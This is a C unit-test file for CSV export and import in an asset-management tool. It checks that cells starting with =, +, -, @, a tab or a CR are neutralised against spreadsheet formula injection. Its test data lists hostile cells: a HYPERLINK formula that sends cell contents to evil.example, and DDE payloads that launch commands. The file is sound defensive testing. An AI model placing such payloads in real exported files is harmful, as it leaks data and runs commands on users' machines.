/* tests/unit/test_client_csv.c — spreadsheet formula injection (OWASP CSV injection): cells
 * that start with = + - @, a tab or a CR are written with a leading apostrophe by every CSV
 * writer, and `asset import` reads its own export back verbatim. */
#define _GNU_SOURCE /* open_memstream */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <criterion/criterion.h>

#include "asset_io.h"
#include "csv.h"
#include "output.h"

static const char *const HOSTILE[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\r=1+1",
    "'=already quoted",
};

Test(client_csv, guard_decision)
{
    for (size_t i = 0; i < sizeof(HOSTILE) / sizeof(HOSTILE[0]); i++)
        cr_expect(isms_csv_needs_guard(HOSTILE[i]), "%s", HOSTILE[i]);
    cr_expect(!isms_csv_needs_guard("Customer DB"));
    cr_expect(!isms_csv_needs_guard("2027-01-31"));
    cr_expect(!isms_csv_needs_guard(""));
    cr_expect(!isms_csv_needs_guard(" =not first"));
}

Test(client_csv, asset_export_guards_formulas_and_import_reads_them_back)
{
    size_t n = sizeof(HOSTILE) / sizeof(HOSTILE[0]);
    char *buf = NULL;
    size_t len = 0;
    FILE *fp = open_memstream(&buf, &len);
    struct isms_asset_file f;
    struct isms_status st = {0};

    cr_assert(isms_asset_write_begin(fp, ISMS_ASSET_FORMAT_CSV));
    for (size_t i = 0; i < n; i++) {
        Isms__V1__AssetRecord a = ISMS__V1__ASSET_RECORD__INIT;
        char id[16];

        snprintf(id, sizeof(id), "A-%zu", i + 1);
        a.id = id;
        a.name = (char *)HOSTILE[i];
        a.type = "information";
        a.description = (char *)HOSTILE[(i + 1) % n];
        a.owner = "-bob";
        a.custodian = "";
        a.location = "";
        a.classification = "internal";
        a.status = "active";
        a.created_at = "";
        a.created_by = "";
        a.updated_at = "";
        a.updated_by = "";
        cr_assert(isms_asset_write_row(fp, ISMS_ASSET_FORMAT_CSV, &a, i == 0));
    }
    cr_assert(isms_asset_write_end(fp, ISMS_ASSET_FORMAT_CSV, false));
    fclose(fp);
    /* No cell of the file starts a formula: after each separator comes a quote or apostrophe. */
    for (size_t i = 0; i < len; i++) {
        if (i == 0 || buf[i - 1] == ',' || buf[i - 1] == '\n') {
            const char *c = buf + i;

            if (*c == '"')
                c++;
            cr_expect(strchr("=+-@\t", *c) == NULL || *c == '\0',
                      "a cell starts with %02x at byte %zu", (unsigned char)*c, i);
        }
    }
    memset(&f, 0, sizeof(f));
    cr_assert_eq(isms_asset_file_parse(buf, len, ISMS_ASSET_FORMAT_CSV, &f, &st), ISMS_OK, "%s",
                 st.msg);
    cr_assert_eq(f.n, n);
    for (size_t i = 0; i < n; i++) {
        cr_expect_str_eq(f.rows[i].name, HOSTILE[i], "row %zu name", i + 1);
        cr_expect_str_eq(f.rows[i].description, HOSTILE[(i + 1) % n], "row %zu description", i + 1);
        cr_expect_str_eq(f.rows[i].owner, "-bob");
    }
    isms_asset_file_free(&f);
    free(buf);
}

Test(client_csv, output_csv_guards_formulas)
{
    static const struct isms_out_col cols[] = {{"name", ISMS_OUT_STR}, {"note", ISMS_OUT_STR}};
    struct isms_out o;
    struct isms_out_table *t;
    struct isms_status st;
    char *buf = NULL;
    size_t len = 0;
    FILE *fp = open_memstream(&buf, &len);

    isms_out_init(&o);
    t = isms_out_list(&o, "rows", cols, 2);
    cr_assert_not_null(t);
    isms_out_row(t);
    isms_out_str(t, "=1+1");
    isms_out_str(t, "@x,y");
    cr_assert_eq(isms_out_render(&o, ISMS_OUT_CSV, fp, &st), ISMS_OK);
    fclose(fp);
    cr_expect(strstr(buf, "\r\n'=1+1,\"'@x,y\"\r\n") != NULL, "%s", buf);
    isms_out_cleanup(&o);
    free(buf);
}

/* The RFC 4180 reader `control import` uses: quoted commas, quotes and line breaks, CRLF or
 * LF, a trailing empty cell, the line each record starts on, and syntax errors by line. */
Test(client_csv, reader_records_lines_and_errors)
{
    static const char data[] = "a,\"b, \"\"c\"\"\",\r\n\"multi\nline\",x\nlast";
    struct isms_csv_reader r = {data, data + sizeof(data) - 1, 0};
    struct isms_status st;
    char **cells;
    size_t n, line;

    cr_assert_eq(isms_csv_next(&r, &cells, &n, &line, &st), 1);
    cr_assert_eq(line, 1);
    cr_assert_eq(n, 3);
    cr_assert_str_eq(cells[0], "a");
    cr_assert_str_eq(cells[1], "b, \"c\"");
    cr_assert_str_eq(cells[2], "");
    isms_csv_free_cells(cells, n);
    cr_assert_eq(isms_csv_next(&r, &cells, &n, &line, &st), 1);
    cr_assert_eq(line, 2);
    cr_assert_eq(n, 2);
    cr_assert_str_eq(cells[0], "multi\nline");
    isms_csv_free_cells(cells, n);
    cr_assert_eq(isms_csv_next(&r, &cells, &n, &line, &st), 1);
    cr_assert_eq(line, 4);
    cr_assert_eq(n, 1);
    cr_assert_str_eq(cells[0], "last");
    isms_csv_free_cells(cells, n);
    cr_assert_eq(isms_csv_next(&r, &cells, &n, &line, &st), 0);

    {
        static const char bad[] = "ok\r\n\"open,\r\nstill";
        struct isms_csv_reader b = {bad, bad + sizeof(bad) - 1, 0};

        cr_assert_eq(isms_csv_next(&b, &cells, &n, &line, &st), 1);
        isms_csv_free_cells(cells, n);
        cr_assert_eq(isms_csv_next(&b, &cells, &n, &line, &st), -1);
        cr_assert_eq(st.code, ISMS_INVALID_ARGUMENT);
        cr_assert_str_eq(st.msg, "line 2: a quoted field is not closed");
        cr_assert_null(cells);
    }
    {
        static const char bad[] = "\"x\"y,z";
        struct isms_csv_reader b = {bad, bad + sizeof(bad) - 1, 0};

        cr_assert_eq(isms_csv_next(&b, &cells, &n, &line, &st), -1);
        cr_assert_str_eq(st.msg, "line 1: unexpected character after a quoted field");
    }
}
